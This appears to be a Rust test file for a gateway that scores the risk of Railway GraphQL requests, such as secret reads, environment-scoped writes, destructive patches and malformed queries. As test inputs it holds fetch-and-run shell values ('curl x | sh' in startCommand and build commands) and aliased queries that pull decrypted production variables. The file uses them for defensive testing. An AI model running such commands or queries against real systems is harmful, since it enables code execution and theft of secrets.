//! The whole operation is judged: every nested field, through aliases and fragments, with the
//! environments its data lives in; inputs that run code or destroy; environments verified
//! against the topology rather than believed; GraphQL's validation rules.
//!
//! Each case lists the parts the gateway would judge, as `risk rule = environments` (`-` for
//! metadata that belongs to no environment), in the order the field and its findings come.

use blastdoor_core::{Environment, EnvironmentName, Risk};
use blastdoor_http::railway::topology::{
    environment_mismatch, judged_parts, parse_topology_response, unresolved_resources,
};
use blastdoor_http::railway::{EnvironmentMap, Topology, classify_request_body};
use serde_json::{Value, json};

/// Production and staging of project `proj-1`, a PR environment nobody configured, a
/// production-only service, a deployment and a domain in production.
fn topology() -> Topology {
    let body = serde_json::to_vec(&json!({"data": {"project": {
        "id": "proj-1", "name": "pocketos",
        "environments": {"edges": [
            {"node": {"id": "env-prod", "name": "production"}},
            {"node": {"id": "env-stage", "name": "staging"}}
        ]},
        "volumes": {"edges": [
            {"node": {"id": "vol-pg", "name": "pg-data", "volumeInstances": {"edges": [
                {"node": {"id": "vi-prod", "environmentId": "env-prod", "serviceId": "svc-pg"}},
                {"node": {"id": "vi-stage", "environmentId": "env-stage", "serviceId": "svc-pg"}}
            ]}}}
        ]},
        "services": {"edges": [
            {"node": {"id": "svc-pg", "name": "Postgres", "serviceInstances": {"edges": [
                {"node": {"id": "si-prod", "environmentId": "env-prod",
                          "domains": {"serviceDomains": [{"id": "sd-prod"}], "customDomains": []}}},
                {"node": {"id": "si-stage", "environmentId": "env-stage",
                          "domains": {"serviceDomains": [{"id": "sd-stage"}], "customDomains": [{"id": "cd-stage"}]}}}
            ]}}},
            {"node": {"id": "svc-billing", "name": "billing", "serviceInstances": {"edges": [
                {"node": {"id": "si-billing", "environmentId": "env-prod"}}
            ]}}}
        ]}
    }}}))
    .unwrap();
    let mut topology = parse_topology_response(&body).unwrap();
    topology.record_resource("deployment", "dep-prod", "env-prod");
    topology.record_resource("deployment", "dep-stage", "env-stage");
    topology
}

fn environments() -> EnvironmentMap {
    EnvironmentMap::new([
        (
            EnvironmentName::new("production").unwrap(),
            vec!["env-prod".to_owned()],
        ),
        (
            EnvironmentName::new("staging").unwrap(),
            vec!["env-stage".to_owned()],
        ),
    ])
    .unwrap()
}

fn parts(query: &str, variables: Value) -> Vec<String> {
    let body = serde_json::to_vec(&json!({"query": query, "variables": variables})).unwrap();
    let classification = classify_request_body(&body);
    assert_eq!(classification.malformed, None, "{query}");
    let mut found = Vec::new();
    for field in &classification.fields {
        for part in judged_parts(field, &topology(), &environments()) {
            let mut names: Vec<&str> = part
                .targets
                .iter()
                .flat_map(|target| target.environments.iter().map(Environment::as_str))
                .collect();
            names.sort();
            names.dedup();
            let names = if names.is_empty() {
                "-".to_owned()
            } else {
                names.join(",")
            };
            found.push(format!("{} {} = {names}", part.risk, part.rule_id));
        }
    }
    found
}

fn check(query: &str, expected: &[&str]) {
    check_with(query, json!({}), expected);
}

fn check_with(query: &str, variables: Value, expected: &[&str]) {
    assert_eq!(
        parts(query, variables.clone()),
        expected,
        "{query} {variables}"
    );
}

fn malformed(query: &str, why: &str) {
    let body = serde_json::to_vec(&json!({"query": query})).unwrap();
    let classification = classify_request_body(&body);
    let found = classification.malformed.unwrap_or_default();
    assert!(found.contains(why), "{query}: {found:?} lacks {why:?}");
    assert_eq!(classification.risk, Risk::Unknown);
}

const CONFIG_UNDER_PROJECTS: &str = "{ projects { edges { node { environments { edges { node { name config(decryptVariables: true) } } } } } } }";

#[test]
fn secrets_read_through_nested_fields_reach_every_environment_they_could_come_from() {
    // The attack of the issue: production's decrypted variables under an id-less root.
    check(
        CONFIG_UNDER_PROJECTS,
        &[
            "read railway.read = -",
            "read-secrets railway.secrets-read = production,staging",
        ],
    );
    // Under `me → workspaces → projects`, behind harmless-looking aliases.
    check(
        "{ me { workspaces { projects { edges { node { staging: environments { edges { node { readme: config(decryptVariables: true) } } } } } } } } }",
        &[
            "read railway.read = -",
            "read-secrets railway.secrets-read = production,staging",
        ],
    );
    // Through a named fragment and an inline fragment.
    check(
        "query { project(id: \"proj-1\") { ...Envs } } fragment Envs on Project { environments { edges { node { ... on Environment { config(decryptVariables: true) } } } } }",
        &[
            "read railway.read = -",
            "read-secrets railway.secrets-read = production,staging",
        ],
    );
    // With the decryption flag in a variable.
    check_with(
        "query($d: Boolean) { project(id: \"proj-1\") { environments { edges { node { config(decryptVariables: $d) } } } } }",
        json!({"d": true}),
        &[
            "read railway.read = -",
            "read-secrets railway.secrets-read = production,staging",
        ],
    );
    // Without decryption, config is a plain read of names.
    check_with(
        "query($d: Boolean) { project(id: \"proj-1\") { environments { edges { node { config(decryptVariables: $d) } } } } }",
        json!({"d": false}),
        &["read railway.read = -"],
    );
    // Pinned to staging: staging's secrets only.
    check(
        "{ environment(id: \"env-stage\") { config(decryptVariables: true) } }",
        &[
            "read railway.read = staging",
            "read-secrets railway.secrets-read = staging",
        ],
    );
    // From staging to another environment (`sourceEnvironment`): every environment.
    check(
        "{ environment(id: \"env-stage\") { sourceEnvironment { config(decryptVariables: true) } } }",
        &[
            "read railway.read = staging",
            "read-secrets railway.secrets-read = production,staging",
        ],
    );
    // Root fields that return secrets.
    check(
        "{ variables(projectId: \"proj-1\", environmentId: \"env-prod\") }",
        &["read-secrets railway.secrets-read = production"],
    );
}

#[test]
fn metadata_reads_belong_to_no_environment_and_environment_data_to_its_environment() {
    // Names and lists of environments and services: metadata.
    check(
        "query { project(id: \"proj-1\") { name environments { edges { node { id name } } } services { edges { node { id name } } } } }",
        &["read railway.read = -"],
    );
    // A service instance reached from an environment node of the project: every environment.
    check(
        "query { project(id: \"proj-1\") { environments { edges { node { serviceInstances { edges { node { startCommand } } } } } } } }",
        &[
            "read railway.read = -",
            "read railway.read = production,staging",
        ],
    );
    // The same under an environment pinned by id: that environment.
    check(
        "query { environment(id: \"env-stage\") { serviceInstances { edges { node { startCommand latestDeployment { id } } } } } }",
        &["read railway.read = staging", "read railway.read = staging"],
    );
    // A service's instances span its environments even when reached from a staging record.
    check(
        "query { serviceInstance(environmentId: \"env-stage\", serviceId: \"svc-pg\") { service { serviceInstances { edges { node { startCommand } } } } } }",
        &[
            "read railway.read = staging",
            "read railway.read = production,staging",
        ],
    );
    // Logs of a deployment: where the deployment really is.
    check(
        "{ deploymentLogs(deploymentId: \"dep-prod\") { message tags { serviceId } } }",
        &["read railway.read = production"],
    );
    check(
        "{ deploymentLogs(deploymentId: \"dep-unseen\") { message } }",
        &["read railway.read = unknown"],
    );
}

#[test]
fn names_and_ids_of_environment_records_are_metadata() {
    // What `railway list` selects: which services have instances where.
    check(
        "{ projects { edges { node { environments { edges { node { id name serviceInstances { edges { node { id serviceId environmentId } } } } } } } } } }",
        &["read railway.read = -"],
    );
    // Variable names are not values.
    check(
        "{ environment(id: \"env-prod\") { variables { edges { node { id name } } } } }",
        &["read railway.read = production"],
    );
    // A volume instance by its bare id.
    check(
        "{ volumeInstance(id: \"vi-stage\") { mountPath } }",
        &["read railway.read = staging", "read railway.read = staging"],
    );
}

#[test]
fn stated_environment_ids_narrow_only_what_they_can_and_never_for_project_wide_writes() {
    // `baseEnvironmentId` is an environment touched, not the scope of a project-wide write.
    check(
        "mutation { projectUpdate(id: \"proj-1\", input: {baseEnvironmentId: \"env-stage\"}) { id } }",
        &["write railway.write = production,staging"],
    );
    // `environmentId` narrows a service to its instance there.
    check(
        "mutation { serviceInstanceUpdate(serviceId: \"svc-pg\", environmentId: \"env-stage\", input: {numReplicas: 1}) }",
        &["write railway.write = staging"],
    );
    // A deployment lives where it lives, whatever the request says beside it.
    check(
        "mutation { deploymentRedeploy(id: \"dep-prod\") { id } }",
        &["write railway.write = production"],
    );
    check(
        "mutation { customDomainUpdate(id: \"sd-prod\", environmentId: \"env-stage\", targetPort: 80) }",
        &["write railway.write = staging,unknown"],
    );
    check(
        "mutation { serviceDomainDelete(id: \"sd-prod\") }",
        &["destroy railway.service-domain-delete = production"],
    );
    // `allEnvironments: true` reaches every environment.
    check(
        "mutation { egressGatewayUpgradeToHA(input: {environmentId: \"env-stage\", serviceId: \"svc-pg\", allEnvironments: true}) { __typename } }",
        &["write railway.write = production,staging"],
    );
    check(
        "mutation { egressGatewayUpgradeToHA(input: {environmentId: \"env-stage\", serviceId: \"svc-pg\", allEnvironments: false}) { __typename } }",
        &["write railway.write = staging"],
    );
}

#[test]
fn a_stated_environment_that_disagrees_with_the_resource_is_found() {
    let field = |query: &str| {
        let body = serde_json::to_vec(&json!({"query": query})).unwrap();
        classify_request_body(&body).fields.remove(0)
    };
    let topology = topology();
    for (query, wrong) in [
        (
            "mutation { serviceInstanceUpdate(serviceId: \"svc-billing\", environmentId: \"env-stage\", input: {numReplicas: 0}) }",
            true,
        ),
        (
            "mutation { pluginDelete(id: \"plug-1\", environmentId: \"env-stage\") }",
            false,
        ),
        (
            "mutation { volumeInstanceUpdate(volumeId: \"vol-pg\", environmentId: \"env-stage\", input: {mountPath: \"/d\"}) }",
            false,
        ),
        (
            "mutation { serviceDomainUpdate(input: {serviceDomainId: \"sd-prod\", environmentId: \"env-stage\", serviceId: \"svc-pg\", domain: \"x\"}) }",
            true,
        ),
    ] {
        assert_eq!(
            environment_mismatch(&field(query), &topology).is_some(),
            wrong,
            "{query}"
        );
    }
    let unresolved = unresolved_resources(
        &field("mutation { deploymentRestart(id: \"dep-new\") }"),
        &topology,
    );
    assert_eq!(
        unresolved,
        [("deployment".to_owned(), "dep-new".to_owned())]
    );
}

#[test]
fn inputs_that_run_code_or_destroy_raise_the_risk() {
    let update = "mutation($input: ServiceInstanceUpdateInput!) { serviceInstanceUpdate(serviceId: \"svc-pg\", environmentId: \"env-stage\", input: $input) }";
    for (input, expected) in [
        (
            json!({"startCommand": "sh -c 'curl x | sh'"}),
            "execute railway.start-command-change = staging",
        ),
        (
            json!({"dockerfilePath": "evil/Dockerfile"}),
            "execute railway.build-config-change = staging",
        ),
        (
            json!({"railwayConfigFile": "other.json"}),
            "execute railway.build-config-change = staging",
        ),
        (
            json!({"nixpacksPlan": {"phases": {"setup": {"cmds": ["curl x | sh"]}}}}),
            "execute railway.build-config-change = staging",
        ),
        (
            json!({"rootDirectory": "/elsewhere"}),
            "execute railway.build-config-change = staging",
        ),
        (
            json!({"numReplicas": 2, "startCommand": null}),
            "write railway.write = staging",
        ),
    ] {
        check_with(update, json!({"input": input}), &[expected]);
    }
    check(
        "mutation { volumeInstanceUpdate(volumeId: \"vol-pg\", environmentId: \"env-stage\", input: {state: DELETED}) }",
        &["destroy railway.volume-instance-delete = staging"],
    );
    for patch in [
        json!({"services": {"svc-pg": {"networking": {"serviceDomains": {"pg.up.railway.app": null}}}}}),
        json!({"services": {"svc-pg": {"networking": {"tcpProxies": {"5432": null}}}}}),
        json!({"services": {"svc-pg": {"volumeMounts": {"vol-pg": null}}}}),
        json!({"services": {"svc-pg": {"networking": null}}}),
        json!({"volumes": {"vol-pg": {"isDeleted": true}}}),
    ] {
        check_with(
            "mutation($p: EnvironmentConfig!) { environmentPatchCommit(environmentId: \"env-stage\", patch: $p) }",
            json!({"p": patch}),
            &["destroy railway.hidden-delete = staging"],
        );
    }
    check_with(
        "mutation($p: EnvironmentConfig!) { environmentPatchCommit(environmentId: \"env-stage\", patch: $p) }",
        json!({"p": {"services": {"svc-pg": {"build": {"dockerfilePath": "x"}}}}}),
        &["execute railway.start-command-change = staging"],
    );
}

#[test]
fn introspection_at_any_root_is_a_read_of_metadata() {
    check("{ __typename }", &["read railway.read = -"]);
    check("mutation { __typename }", &["read railway.read = -"]);
    check(
        "mutation { __typename volumeDelete(volumeId: \"vol-pg\") }",
        &[
            "read railway.read = -",
            "destroy railway.volume-delete = production,staging",
        ],
    );
}

#[test]
fn unknown_names_are_held_not_refused() {
    check(
        "{ project(id: \"proj-1\") { name brandNewField } }",
        &[
            "read railway.read = -",
            "unknown railway.field-unknown = production,staging",
        ],
    );
    check(
        "{ project(id: \"proj-1\", brandNewArgument: 1) { name } }",
        &[
            "read railway.read = -",
            "unknown railway.field-unknown = production,staging",
        ],
    );
}

#[test]
fn graphql_validation_rules_make_a_request_malformed() {
    malformed(
        "query Q { me { id } } mutation Q { volumeDelete(volumeId: \"v\") }",
        "operation `Q` is defined twice",
    );
    malformed(
        "{ me { id } } mutation { volumeDelete(volumeId: \"v\") }",
        "anonymous operation must be the only",
    );
    malformed(
        "{ me { id } } fragment Unused on User { id }",
        "fragment `Unused` is never used",
    );
    malformed(
        "{ me { ...A } } fragment A on User { ...B } fragment B on User { ...A }",
        "spreads itself",
    );
    malformed("{ me { ...Missing } }", "not defined");
    malformed("query { project(id: $p) { name } }", "`$p` is not declared");
    malformed(
        "{ me { id { name } } }",
        "is a leaf and takes no selections",
    );
    malformed("{ me }", "needs selections");
    malformed(
        "{ me { ... on NoSuchType { id } } }",
        "unknown type `NoSuchType`",
    );
    malformed(
        "query($a: Int, $a: Int) { me { id } }",
        "variable `$a` is declared twice",
    );
}

#[test]
fn duplicate_json_keys_anywhere_make_a_request_malformed() {
    for body in [
        br#"{"query": "mutation($v: String!) { volumeDelete(volumeId: $v) }", "variables": {"v": "vol-stage", "v": "vol-prod"}}"#.as_slice(),
        br#"{"query": "{ me { id } }", "operationName": null, "operationName": "X"}"#,
        br#"[{"query": "{ me { id } }", "extensions": {"a": 1, "a": 2}}]"#,
    ] {
        let classification = classify_request_body(body);
        assert!(
            classification
                .malformed
                .as_deref()
                .is_some_and(|why| why.contains("twice in one object")),
            "{classification:?}"
        );
    }
    // Variables sent as a JSON string, and a patch sent as one, are read as strictly as the
    // body.
    for body in [
        br#"{"query": "mutation($v: String!) { volumeDelete(volumeId: $v) }", "variables": "{\"v\": \"vol-stage\", \"v\": \"vol-prod\"}"}"#.as_slice(),
        br#"{"query": "mutation($p: EnvironmentConfig!) { environmentPatchCommit(environmentId: \"e\", patch: $p) }", "variables": {"p": "{\"volumes\": {\"v\": {\"isDeleted\": true, \"isDeleted\": false}}}"}}"#,
    ] {
        let classification = classify_request_body(body);
        assert!(
            classification
                .malformed
                .as_deref()
                .is_some_and(|why| why.contains("twice in one object")),
            "{classification:?}"
        );
    }
}

#[test]
fn railway_up_is_a_write_in_the_environment_it_names_and_must_agree_with_the_topology() {
    use blastdoor_http::Method;
    use blastdoor_http::railway::upload::classify_upload;
    let upload = |path: &str, query: &str| {
        let field = classify_upload(&Method::Post, path, Some(query)).unwrap();
        let mismatch = environment_mismatch(&field, &topology()).is_some();
        let parts: Vec<String> = judged_parts(&field, &topology(), &environments())
            .iter()
            .map(|part| {
                let mut names: Vec<&str> = part
                    .targets
                    .iter()
                    .flat_map(|target| target.environments.iter().map(Environment::as_str))
                    .collect();
                names.sort();
                names.dedup();
                format!("{} {} = {}", part.risk, part.rule_id, names.join(","))
            })
            .collect();
        (parts, mismatch)
    };
    assert_eq!(
        upload(
            "/project/proj-1/environment/env-stage/up",
            "serviceId=svc-pg"
        ),
        (vec!["write railway.up = staging".to_owned()], false)
    );
    assert_eq!(
        upload(
            "/project/proj-1/environment/env-prod/up",
            "serviceId=svc-pg&message=m"
        ),
        (vec!["write railway.up = production".to_owned()], false)
    );
    // A service that has no instance in the environment, an environment of another project.
    assert!(
        upload(
            "/project/proj-1/environment/env-stage/up",
            "serviceId=svc-billing"
        )
        .1
    );
    assert!(upload("/project/proj-1/environment/env-elsewhere/up", "serviceId=").1);
    // Staging's environment under a project the topology does not know.
    assert!(upload("/project/proj-other/environment/env-stage/up", "serviceId=").1);
}

/// Hundreds of unknown fields cannot push a secret read out of what is judged: the request is
/// refused whole.
#[test]
fn too_many_distinct_findings_make_a_request_malformed() {
    let unknown: String = (0..300).map(|n| format!(" unknown{n}")).collect();
    malformed(
        &format!(
            "{{ environment(id: \"env-prod\") {{ {unknown} config(decryptVariables: true) }} }}"
        ),
        "more than 256 distinct fields",
    );
}
